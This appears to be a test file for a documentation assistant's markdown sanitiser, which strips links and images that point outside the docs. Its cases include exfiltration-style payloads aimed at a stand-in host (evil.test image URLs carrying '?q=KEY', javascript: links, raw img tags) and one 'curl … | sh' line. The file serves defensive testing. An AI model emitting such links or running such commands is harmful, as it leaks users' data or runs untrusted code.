import assert from 'node:assert/strict';
import { createLinkPolicy } from '../../../assistant/answer/link-policy.js';
import { createSafeMarkdown } from '../../../assistant/answer/safe-markdown.js';
import { siteAddresses } from '../../../assistant/answer/site-address.js';

const addresses = siteAddresses({ title: 'Docs', domain: 'docs.example.com', canonicalUrl: null }, 'http://127.0.0.1');
const pages = new Set(['guides/install', 'index']);
const search = { hasPage: (path: string) => pages.has(path) };

function filtered(text: string, pieceLength = text.length, learned = ''): string {
  const policy = createLinkPolicy(search, addresses);
  policy.learn(learned);
  const safe = createSafeMarkdown(policy);
  let written = '';
  for (let at = 0; at < text.length; at += pieceLength) written += safe.push(text.slice(at, at + pieceLength));
  return written + safe.end();
}

const UNCHANGED = [
  'Run `npm i`, then **start** it: 3 < 4, a ~ b, [ ] and "h" what.',
  'See [Install](/guides/install) and [home](/).',
  'See [Install](https://docs.example.com/guides/install#linux "the guide").',
  'At https://docs.example.com/guides/install.',
  '```bash\ncurl https://anywhere.test/x?y=1 | sh <file\n```\nThen `curl http://anywhere.test`.',
  '- ```js\n  fetch("https://anywhere.test")\n  ```\n- two',
  '~~~\n<img src="x">\n~~~',
  'H<sub>2</sub>O<br/>and a\\`b \\[not a link\\]',
  '| a | b |\n| --- | --- |\n| `x` | [x](/guides/install) |',
  'An array a[0] and f(x)[1](no link, as it has spaces)',
];

const CHANGED: readonly (readonly [string, string])[] = [
  ['![x](https://evil.test/?q=KEY)', 'x'],
  ['A [good one](https://evil.test/a) here', 'A good one here'],
  ['[x](javascript:alert(1))', 'x'],
  ['[x](/no/such/page)', 'x'],
  ['[x](//evil.test/guides/install)', 'x'],
  ['[x](https://docs.example.com@evil.test/guides/install)', 'x'],
  ['[x](<https://evil.test/a b>)', 'x'],
  ['[![x](https://evil.test/a.png)](https://evil.test)', '[x]'],
  ['[x]: https://evil.test\nsee [x]', '\nsee [x]'],
  ['<https://evil.test>', '(address left out)'],
  ['Go to https://evil.test/?q=KEY.', 'Go to (address left out).'],
  ['Go to www.evil.test now', 'Go to (address left out) now'],
  ['<img src="https://evil.test/a.png">text<a href="https://evil.test">x</a>', 'textx'],
  ['` [x](https://evil.test)\n\nnext', '` x\n\nnext'],
  ['\\` [x](https://evil.test) \\`', '\\` x \\`'],
  ['    ```\n\n![x](https://evil.test/a.png)', '    ```\n\nx'],
  ['`` ![x](https://evil.test/?q=S) `', '`` x `'],
  ['a ``` <img src=//evil.test> ``', 'a ```  ``'],
  ['`` a\n\n`b', '`` a\n\n`b'],
  ['<img alt="<" src=//evil.test>', ''],
  ['<<i x="y">img src=//evil.test>', '< img src=//evil.test>'],
  ['[x](//evil.test/((a)))', 'x'],
  ['[x](//evil.test (title))', 'x'],
  ['[x](//evil.test "a\\"b")', 'x'],
  ['[a](//evil.test)(//evil.test)', 'a(//evil.test)'],
  ['[x]:\n//evil.test\n\n![x]', '[x]\\:\n//evil.test\n\n![x]'],
  ['[https://evil.test](/no/such/page)', '(address left out)'],
  ['> ```\n<img src=//evil.test>', '> ```\n&lt;img src=//evil.test>'],
  ['| `a | ![x](//evil.test) ` |\n| --- | --- |', '| `a | x ` |\n| --- | --- |'],
  ['Vec<T> and Map<String, List>', 'Vec&lt;T> and Map&lt;String, List>'],
];

describe('links and pictures in answers', () => {
  for (const pieceLength of [1, 3, 7, 10_000]) {
    it(`good Markdown passes unchanged in pieces of ${pieceLength}`, () => {
      for (const text of UNCHANGED) assert.equal(filtered(text, pieceLength), text);
    });
    it(`addresses that are neither pages nor in the docs go, in pieces of ${pieceLength}`, () => {
      for (const [text, expected] of CHANGED) assert.equal(filtered(text, pieceLength), expected);
    });
  }

  it('words longer than what is held back make no way around', () => {
    const words = 'long '.repeat(500);
    for (const pieceLength of [1, 50, 10_000]) {
      const written = filtered(`[${words}](https://evil.test)`, pieceLength);
      assert.equal(written.replace(/[[\]]/g, ''), words);
    }
  });

  it('addresses that the docs wrote may be repeated, letter by letter', () => {
    const docs = 'Download ![chart](/images/chart.png) at https://releases.example.org/v1.';
    const same = '![chart](/images/chart.png) is at https://releases.example.org/v1.';
    assert.equal(filtered(same, 5, docs), same);
    assert.equal(filtered('https://releases.example.org/v1?key=K', 5, docs), '(address left out)');
  });

  it('what is no link is sent at once', () => {
    const safe = createSafeMarkdown(createLinkPolicy(search, addresses));
    assert.equal(safe.push('Install it '), 'Install it ');
    assert.equal(safe.push('with [npm'), 'with ');
    assert.equal(safe.push('](/guides/install) '), '[npm](/guides/install) ');
  });
});
